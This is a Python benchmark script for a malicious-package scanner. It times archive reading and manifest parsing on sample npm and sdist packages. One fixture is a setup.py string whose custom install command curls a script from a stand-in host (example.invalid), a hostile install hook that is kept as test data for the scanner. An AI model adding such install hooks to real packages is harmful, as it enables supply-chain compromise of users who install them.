"""Benchmark: reading one typical package, the fixed cost every analysed archive pays before
its code is scanned.

    python benchmarks/read_packages.py [--repeat 200]

Times, on one core, (1) `read_archive` on a typical npm tarball of 75 JavaScript files, net of
plain gzip inflation of the same bytes; (2) `read_manifests` on an npm package of 200 files of
which one is a manifest; (3) `read_manifests` on a typical sdist (setup.py, requirements files,
PKG-INFO). Each budget is an order of magnitude above what a quiet machine needs, so the script
fails (exit 1) only when something got much slower. The figures are in benchmarks/README.md.
"""

from __future__ import annotations

import argparse
import sys
import time
import zlib
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "src"))
from malgraph.analysis.manifests import read_manifests
from malgraph.artifacts.archives import Member, read_archive
from tests.artifacts.hostile import typical_npm

ARCHIVE_BUDGET = 0.005  # seconds of overhead per package over inflating it
NPM_MANIFESTS_BUDGET = 0.002
SDIST_MANIFESTS_BUDGET = 0.01

PACKAGE_JSON = b"""{
  "name": "evil-pkg",
  "version": "1.0.3",
  "description": "nothing to see",
  "scripts": {"postinstall": "node install.js", "test": "jest"},
  "dependencies": {"axios": "^1.6.0", "@scope/util": "2.x"},
  "devDependencies": {"jest": "29"}
}
"""
SETUP_PY = b"""\
import os
import subprocess
from setuptools import setup, find_packages
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call(["curl", "http://example.invalid/x.sh"])


setup(
    name="evil-sdist",
    version="0.1",
    description="totally fine",
    packages=find_packages(),
    install_requires=["requests>=2.0", "colorama"],
    extras_require={"dev": ["pytest"]},
    setup_requires=["wheel"],
    cmdclass={"install": PostInstall},
)
"""


def per_call(run: Callable[[], object], repeat: int) -> float:
    start = time.perf_counter()
    for _ in range(repeat):
        run()
    return (time.perf_counter() - start) / repeat


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--repeat", type=int, default=200)
    args = parser.parse_args()

    data = typical_npm(files=75)
    inflate = per_call(lambda: zlib.decompressobj(31).decompress(data), args.repeat)
    archive = per_call(lambda: read_archive(data), args.repeat) - inflate

    npm = [Member(f"package/lib/f{i}.js", b"\xff" * 100) for i in range(200)]
    npm += [Member("package/package.json", PACKAGE_JSON), Member("package/README.md", b"# r")]
    npm_manifests = per_call(lambda: read_manifests(npm), args.repeat)

    sdist = [
        Member("evil-sdist-0.1/setup.py", SETUP_PY),
        Member("evil-sdist-0.1/requirements.txt", b"urllib3<2\n"),
        Member("evil-sdist-0.1/requirements-build.txt", b"wheel\n"),
        Member("evil-sdist-0.1/PKG-INFO", b"Name: evil-sdist\nVersion: 0.1\n"),
    ]
    sdist_manifests = per_call(lambda: read_manifests(sdist), args.repeat)

    failed = 0
    for label, seconds, budget in (
        (
            f"read_archive, 75-file npm tarball ({len(data):,} bytes), over inflate",
            archive,
            ARCHIVE_BUDGET,
        ),
        ("read_manifests, 203-member npm package", npm_manifests, NPM_MANIFESTS_BUDGET),
        ("read_manifests, typical sdist", sdist_manifests, SDIST_MANIFESTS_BUDGET),
    ):
        verdict = "ok" if seconds < budget else "OVER BUDGET"
        failed += seconds >= budget
        print(f"{label}: {seconds * 1000:.2f} ms (budget {budget * 1000:.0f} ms) {verdict}")
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
